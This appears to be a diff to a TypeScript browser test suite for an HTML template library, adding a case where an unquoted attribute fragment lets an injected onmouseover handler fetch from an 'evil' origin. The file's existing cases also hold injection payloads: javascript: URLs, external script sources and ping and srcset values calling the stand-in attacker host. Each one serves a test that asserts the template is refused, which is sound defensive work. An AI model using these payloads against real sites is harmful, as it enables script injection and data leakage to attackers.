@@ -65,6 +65,8 @@ const PAGES: Record<string, (evil: string) => SafeHtml> = {
   '/name-array': (evil) => html`<a id="js" ${[html` hr`, html`ef="${`javascript:fetch('${evil}/ran')`}"`]}>a</a>`,
   // A fragment without values that ends the tag: the template's src went to a <script> it read as attributes of the <p>.
   '/bare-fragment-new-tag': (evil) => html`<p ${html` hidden>`}<script src="${`${evil}/x.js`}"></script>`,
+  // One that ends in an unquoted value: the template's next attribute, and the value's spaces, went on in it.
+  '/bare-fragment-unquoted': (evil) => html`<a id="hover" ${html` title=x`}href="${`a onmouseover=fetch('${evil}/ran')//`}">h</a>`,
   // A value inside a list's candidate that holds the list's separators: a candidate of its own, from the other origin.
   '/ping-space': (evil) => html`<a id="ping" href="/landed" ping="/${`a //${hostOf(evil)}/beacon`}">p</a>`,
   '/srcset-space': (evil) => html`<img srcset="/${`x.png 0.5x, //${hostOf(evil)}/four.png 1x`}">`,
@@ -126,12 +128,13 @@ describe.runIf(browserTestsEnabled('resource URLs in Chromium'))('resource URLs 
   it.each([
     '/script', '/base', '/iframe', '/stylesheet', '/cdn-host', '/refresh',
     '/fragment-script', '/fragment-base', '/fragment-iframe', '/fragment-stylesheet', '/fragment-refresh', '/name-refresh', '/name-http-equiv', '/javascript-url', '/split-script', '/fragment-new-tag',
-    '/name-href', '/name-onerror', '/name-equals-refresh', '/name-array', '/bare-fragment-new-tag',
+    '/name-href', '/name-onerror', '/name-equals-refresh', '/name-array', '/bare-fragment-new-tag', '/bare-fragment-unquoted',
   ])('%s: the template is refused; the other origin gets no request', async (path) => {
     // goto waits for the load event: after the scripts, the frame and the stylesheet.
     await page.goto(`${app.origin}${path}`);
     // The javascript: link, where it renders, is followed (it runs a fetch to the other origin).
     if ((await page.locator('#js').count()) > 0) await page.click('#js');
+    if ((await page.locator('#hover').count()) > 0) await page.hover('#hover');
     expect(evil.requests).toEqual([]);
     expect(await page.evaluate(() => (window as { __ran?: number }).__ran)).toBeUndefined();
     expect(await page.locator('#refused').allTextContents()).toEqual(['TypeError']);
